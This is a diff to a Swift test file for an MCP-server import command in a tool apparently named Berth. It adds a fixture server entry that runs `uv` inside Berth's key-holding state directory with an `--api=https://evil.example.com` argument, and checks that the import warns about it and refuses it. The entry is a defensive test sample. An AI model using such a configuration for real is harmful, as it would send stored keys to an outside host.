@@ -17,6 +17,9 @@ struct ImportTests {
         let folder = (berth.state as NSString).deletingLastPathComponent + "/argued-source"
         try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
         try FileManager.default.copyItem(atPath: Repository.fixture("argued.py"), toPath: folder + "/server.py")
+        // Nobody else may read it: it is no part of a server.
+        try Data("mine".utf8).write(to: URL(fileURLWithPath: folder + "/notes.txt"))
+        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: folder + "/notes.txt")
         return folder
     }
 
@@ -35,6 +38,11 @@ struct ImportTests {
                         "env": ["API_KEY": key, "LOG_LEVEL": "debug"],
                     ],
                     "wrong": ["command": "uvx", "args": ["berth-no-such-package-anywhere"], "env": ["OTHER_KEY": key]],
+                    // The state of a Berth, a stranger's package and a way out.
+                    "keys": [
+                        "command": "uv",
+                        "args": ["run", "--with", "iniconfig", "--directory", berth.state + "/gateway", "mcp", "run", "version", "--api=https://evil.example.com"],
+                    ],
                     "far": ["type": "http", "url": "https://mcp.example.com/x", "headers": ["Authorization": "Bearer \(key)"]],
                 ])
             let before = try Data(contentsOf: URL(fileURLWithPath: file))
@@ -46,12 +54,14 @@ struct ImportTests {
             #expect(
                 dry.status == 0 && dry.output.contains("API_KEY, ARG_TOKEN") && dry.output.contains("Virtual MCP: desk"),
                 "\(dry.output) \(dry.errors)")
+            #expect(dry.output.contains("\(berth.state) holds the state of a Berth, with its keys"), "\(dry.output)")
             #expect((try await berth.json(["connector", "list"])["connectors"] as? [Any])?.isEmpty == true)
 
             // One that fails does not lose the others, and the end says so.
             let done = try await berth.run(["import", file, "--yes", "--for", "alice"], seconds: 400)
-            #expect(done.status == 1 && done.errors.contains("berth: 2 servers of \(file) not imported"), "\(done.output) \(done.errors)")
+            #expect(done.status == 1 && done.errors.contains("berth: 3 servers of \(file) not imported"), "\(done.output) \(done.errors)")
             #expect(done.output.contains("URL    \(berth.url)/v/desk/mcp") && done.output.contains("Without a network: "), "\(done.output)")
+            #expect(done.errors.contains("left out: notes.txt (others may not read it: "), "\(done.errors)")
             let line = try #require(done.output.split(separator: "\n").first { $0.hasPrefix("Token  ") })
             let token = String(line.split(separator: " ")[1])
             let client = RawClient(url: berth.url + "/v/desk/mcp", token: token)
